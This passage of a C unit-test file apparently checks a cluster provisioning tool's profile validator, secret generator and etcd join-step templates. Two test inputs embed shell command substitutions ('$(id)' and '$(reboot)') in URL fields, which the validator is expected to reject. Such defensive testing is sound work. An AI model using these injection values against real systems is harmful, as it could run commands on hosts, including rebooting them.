	             "got a carriage return at byte 1");
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_admin_user\": \"a\\u0085\"}",
	             "got a C1 control character at byte 1");
	expect_check("[\"rabbitmq\", \"strict\"]", "{\"rabbitmq_admin_user\": \"bob\"}",
	             "{\"field\":\"vars.rabbitmq_admin_user\",\"message\":\"must be one of "
	             "\\\"admin\\\", \\\"ops\\\"\"}");
	expect_check("[\"rabbitmq\", \"strict\"]", "{\"rabbitmq_admin_user\": \"ops\"}", NULL);
	expect_check("[\"num\"]",
	             "{\"n\": \"-5\", \"h\": \"a-1.b_c\", \"u\": "
	             "\"https://[::1]:8080/p?q=1&r=%2F#f\", \"w\": \"x\", \"t\": \"a\\nb\\tc\"}",
	             NULL);
	expect_check("[\"num\"]", "{\"n\": \"6\"}",
	             "{\"field\":\"vars.n\",\"message\":\"must be a whole number from -5 to 5\"}");
	expect_check("[\"num\"]", "{\"n\": \"05\"}", "\"message\":\"must be a whole number\"");
	expect_check("[\"num\"]", "{\"n\": \"99999999999999999999\"}",
	             "\"message\":\"must be a whole number\"");
	expect_check("[\"num\"]", "{\"h\": \"-a.b\"}", "\"message\":\"must be a host name");
	expect_check("[\"num\"]", "{\"u\": \"http://x/'$(id)'\"}",
	             "got a single quote at byte 9\"");
	expect_check("[\"num\"]", "{\"u\": \"ftp://x/\"}", "\"message\":\"must be an http://");
	expect_check("[\"num\"]", "{\"u\": \"http://x/%zz\"}", "got '%' at byte 9");
	expect_check("[\"num\"]", "{\"w\": \"a b\"}", "\"message\":\"must be one word");
	expect_check("[\"num\"]", "{\"t\": \"a\\rb\"}", "got a carriage return at byte 1");
	/* a setting that holds a value as is: no final backslash (it would continue the line) */
	expect_check("[\"setting\"]", "{\"d\": \"x\\\\\"}",
	             "{\"field\":\"vars.d\",\"message\":\"must not end in a backslash: systemd "
	             "s.service (profile \\\"setting\\\", line 2) writes it into a setting as is, "
	             "where a final backslash would continue the line\"}");
	expect_check("[\"setting\"]", "{\"d\": \"50% $HOME \\\\x 'q'\"}", NULL);

	expect_check("\"etcd\"", NULL,
	             "{\"field\":\"profiles\",\"message\":\"must be an array of profile names\"}");
	expect_check("[\"etcd\", \"nope\"]", NULL,
	             "{\"field\":\"profiles[1]\",\"message\":\"unknown profile \\\"nope\\\"\"}");
	expect_check("[\"etcd\", 3]", NULL, "\"field\":\"profiles[1]\",\"message\":\"must be");
	expect_check("[\"etcd\", \"etcd\"]", NULL,
	             "{\"field\":\"profiles[1]\",\"message\":\"profile \\\"etcd\\\" is listed "
	             "twice\"}");
	expect_check("[\"rabbitmq\", \"clash2\"]", NULL,
	             "{\"field\":\"profiles[1]\",\"message\":\"file /etc/rabbitmq/enabled_plugins "
	             "is also defined by profile \\\"rabbitmq\\\"\"}");
	expect_check("[\"rabbitmq\", \"clash\"]", NULL,
	             "\"field\":\"profiles[1]\",\"message\":\"unit rabbitmq.service is set up "
	             "differently");
	expect_check("[\"etcd\", \"mask\"]", NULL,
	             "\"field\":\"profiles[1]\",\"message\":\"unit etcd-member.service");
	expect_check("[\"etcd\"]", "[]", "{\"field\":\"vars\",\"message\":\"must be an object");
	expect_check("[\"etcd\"]", "{\"x\": \"1\"}",
	             "{\"field\":\"vars.x\",\"message\":\"is not declared by the chosen "
	             "profiles\"}");
	expect_check("[\"etcd\"]", "{\"rabbitmq_image\": \"x\"}",
	             "{\"field\":\"vars.rabbitmq_image\",\"message\":\"is not declared");
	expect_check("[\"rabbitmq\"]", "{\"cluster_name\": \"x\"}",
	             "{\"field\":\"vars.cluster_name\",\"message\":\"is a built-in variable");
	expect_check("[\"rabbitmq\"]", "{\"discovery_url\": \"x\"}",
	             "{\"field\":\"vars.discovery_url\",\"message\":\"is a built-in");
	expect_check("[\"rabbitmq\"]", "{\"rabbitmq_image\": 5}",
	             "{\"field\":\"vars.rabbitmq_image\",\"message\":\"must be a string\"}");
	expect_check("[\"rabbitmq\"]", "{\"Bad\": \"x\"}",
	             "{\"field\":\"vars.Bad\",\"message\":\"is not a variable name");
	expect_check("[\"req\"]", NULL,
	             "{\"field\":\"vars.token\",\"message\":\"is required by profile "
	             "\\\"req\\\"\"}");
	expect_check("[\"req\"]", "{\"token\": \"t\"}", NULL);

	/* value size and count limits */
	size_t big = PROFILE_VALUE_MAX + 1;
	char *s = malloc(big + 64);
	int n = snprintf(s, big + 64, "{\"rabbitmq_admin_user\": \"");
	memset(s + n, 'a', big);
	snprintf(s + n + big, 64, "\"}");
	expect_check("[\"rabbitmq\"]", s,
	             "{\"field\":\"vars.rabbitmq_admin_user\",\"message\":\"must be at most 255 "
	             "bytes; got 65537\"}");
	snprintf(s, 64, "{\"rabbitmq_admin_user\": \"");
	memset(s + n, 'a', 255);
	snprintf(s + n + 255, 64, "\"}");
	expect_check("[\"rabbitmq\"]", s, NULL); /* exactly max_length */
	/* 70 references to a 64 KiB value: over PROFILE_RENDER_MAX once rendered */
	snprintf(s, 64, "{\"v\": \"");
	memset(s + 7, 'a', PROFILE_VALUE_MAX);
	snprintf(s + 7 + PROFILE_VALUE_MAX, 64, "\"}");
	expect_check("[\"wide\"]", s,
	             "{\"field\":\"vars\",\"message\":\"the rendered templates would exceed");
	expect_check("[\"wide\"]", "{\"v\": \"short\"}", NULL);
	free(s);
	char many[4096];
	size_t m = (size_t)snprintf(many, sizeof(many), "{");
	for (int i = 0; i <= PROFILE_VARS_MAX; i++)
		m += (size_t)snprintf(many + m, sizeof(many) - m, "%s\"v%d\":\"x\"", i ? "," : "",
		                      i);
	snprintf(many + m, sizeof(many) - m, "}");
	expect_check("[\"rabbitmq\"]", many,
	             "{\"field\":\"vars\",\"message\":\"at most 64 variables\"}");

	/* several problems at once: all reported */
	enum kerr e;
	const char *got = check("[\"nope\", \"req\"]", "{\"cluster_id\": \"1\"}", &e);
	CHECK_INT(e, K_EINVAL);
	CHECK(strstr(got, "profiles[0]") && strstr(got, "vars.cluster_id") &&
	      strstr(got, "vars.token"));

	profile_set_free(&check_set);
	rm_rf(root);
	buf_free(&msg);
}

static void generates_secrets_and_resolves_values(void)
{
	char dir[4200];
	const char *dirs[] = {dir};
	struct profile_set *ps = NULL;
	json_t *secrets = NULL, *secrets2 = NULL;
	json_t *profiles = json_pack("[s,s]", "etcd", "rabbitmq");
	json_t *vars = json_pack("{s:s}", "rabbitmq_erlang_cookie", "mine");
	const char *v;

	snprintf(dir, sizeof(dir), "%s/templates", srcdir);
	CHECK_INT(profile_set_load(dirs, 1, &ps, NULL), K_OK);
	CHECK_INT(profile_generate_secrets(ps, profiles, NULL, &secrets), K_OK);
	CHECK_INT(json_object_size(secrets), 2);
	const char *pw = json_string_value(json_object_get(secrets, "rabbitmq_admin_password"));
	const char *ck = json_string_value(json_object_get(secrets, "rabbitmq_erlang_cookie"));
	CHECK(pw && ck && strlen(pw) == 32 && strlen(ck) == 32 && strcmp(pw, ck) != 0);
	for (int i = 0; pw && i < 32; i++)
		CHECK(isalnum((unsigned char)pw[i]));
	CHECK_INT(profile_generate_secrets(ps, profiles, vars, &secrets2), K_OK);
	CHECK_INT(json_object_size(secrets2), 1);
	CHECK(json_object_get(secrets2, "rabbitmq_admin_password") != NULL);

	const struct profile *p = profile_get(ps, "rabbitmq");
	CHECK_INT(profile_var_value(p, "rabbitmq_erlang_cookie", vars, secrets, &v), K_OK);
	CHECK_STR(v, "mine");
	CHECK_INT(profile_var_value(p, "rabbitmq_admin_password", vars, secrets, &v), K_OK);
	CHECK_STR(v, pw);
	CHECK_INT(profile_var_value(p, "rabbitmq_admin_user", vars, secrets, &v), K_OK);
	CHECK_STR(v, "admin");
	CHECK_INT(profile_var_value(p, "rabbitmq_admin_password", vars, NULL, &v), K_EINVAL);
	CHECK_INT(profile_var_value(p, "nope", vars, secrets, &v), K_EINVAL);
	CHECK(profile_builtin("public_url") && !profile_builtin("rabbitmq_image"));

	/* a value stored before its rule existed is not rendered */
	json_t *old = json_pack("{s:s}", "rabbitmq_erlang_cookie", "ab\ncd");
	CHECK_INT(profile_var_value(p, "rabbitmq_erlang_cookie", old, secrets, &v), K_EINVAL);
	json_decref(old);
	old = json_pack("{s:s}", "rabbitmq_erlang_cookie", "x");
	CHECK_INT(profile_var_value(p, "rabbitmq_erlang_cookie", NULL, old, &v), K_OK);
	json_decref(old);
	old = json_pack("{s:s}", "rabbitmq_erlang_cookie", "x y");
	CHECK_INT(profile_var_value(p, "rabbitmq_erlang_cookie", NULL, old, &v), K_EINVAL);
	json_decref(old);
	/* built-ins */
	CHECK(profile_builtin_valid("cluster_name", "demo-1"));
	CHECK(!profile_builtin_valid("cluster_name", "demo 1"));
	CHECK(profile_builtin_valid("size", "99") && !profile_builtin_valid("size", "100"));
	CHECK(profile_builtin_valid("discovery_url", "https://discovery.etcd.io/0123abcd"));
	CHECK(!profile_builtin_valid("discovery_url", "https://d/x'$(reboot)'"));
	CHECK(profile_builtin_valid("public_url", "http://[::1]:8080"));
	CHECK(profile_builtin_valid("public_url", ""));
	CHECK(!profile_builtin_valid("nope", "x"));

	/* a generated secret satisfies its rule, in every profile that declares it */
	char root[] = "/tmp/kindling-gen-XXXXXX";
	const char *dirs2[] = {dir, root};
	struct profile_set *ps2 = NULL;
	CHECK(mkdtemp(root) != NULL);
	put(root, "up/profile.json",
	    "{\"variables\": {\"rabbitmq_erlang_cookie\": {\"generate\": \"secret\", "
	    "\"pattern\": \"[A-Z].*\"}}}");
	put(root, "up/files/etc/up", "${rabbitmq_erlang_cookie}");
	CHECK_INT(profile_set_load(dirs2, 2, &ps2, NULL), K_OK);
	json_t *both = json_pack("[s,s]", "rabbitmq", "up");
	for (int i = 0; i < 50; i++) {
		json_t *g = NULL;
		CHECK_INT(profile_generate_secrets(ps2, both, NULL, &g), K_OK);
		const char *c = json_string_value(json_object_get(g, "rabbitmq_erlang_cookie"));
		CHECK(c && strlen(c) == 32 && c[0] >= 'A' && c[0] <= 'Z');
		json_decref(g);
	}
	json_decref(both);
	profile_set_free(&ps2);
	rm_rf(root);

	json_decref(secrets);
	json_decref(secrets2);
	json_decref(profiles);
	json_decref(vars);
	profile_set_free(&ps);
}

/* Reads srcdir/rel whole into a malloc'd string (*n its length); NULL when unreadable. */
static char *slurp(const char *rel, size_t *n)
{
	char path[4200];
	snprintf(path, sizeof(path), "%s/%s", srcdir, rel);
	FILE *f = fopen(path, "rb");
	if (!f)
		return NULL;
	char *s = malloc(1 << 20);
	*n = s ? fread(s, 1, (1 << 20) - 1, f) : 0;
	fclose(f);
	if (s)
		s[*n] = '\0';
	return s;
}

/* Profiles cannot point at each other's files (no links, no includes): the
 * join step both etcd profiles carry is one file kept twice, byte for byte,
 * and it reads which discovery flags to start with from its env file. */
static void etcd_profiles_share_the_join_step(void)
{
	size_t n2 = 0, n3 = 0;
	char *v2 = slurp("templates/etcd/files/opt/kindling/etcd-join", &n2);
	char *v3 = slurp("templates/etcd-v3/files/opt/kindling/etcd-join", &n3);
	CHECK(v2 && v3);
	CHECK_INT(n2, n3);
	CHECK(v2 && v3 && n2 == n3 && memcmp(v2, v3, n2) == 0);
	CHECK(v2 && strstr(v2, "KINDLING_DISCOVERY_TOKEN"));
	free(v2);
	free(v3);
	char *env = slurp("templates/etcd-v3/files/etc/kindling/etcd-join.env", &n3);
	CHECK(env && strstr(env, "KINDLING_DISCOVERY_TOKEN=${discovery_token}\n"));
	CHECK(env && strstr(env, "KINDLING_DISCOVERY_ENDPOINTS=${discovery_endpoints}\n"));
	free(env);
}

int main(int argc, char **argv)
{
	(void)argc;
	find_srcdir(argv[0]);
	RUN(loads_the_shipped_profiles);
	RUN(later_dirs_replace_and_noise_is_skipped);
	RUN(rejects_bad_profiles);
	RUN(checks_choices);
	RUN(generates_secrets_and_resolves_values);
	RUN(etcd_profiles_share_the_join_step);
	return TEST_EXIT();
}
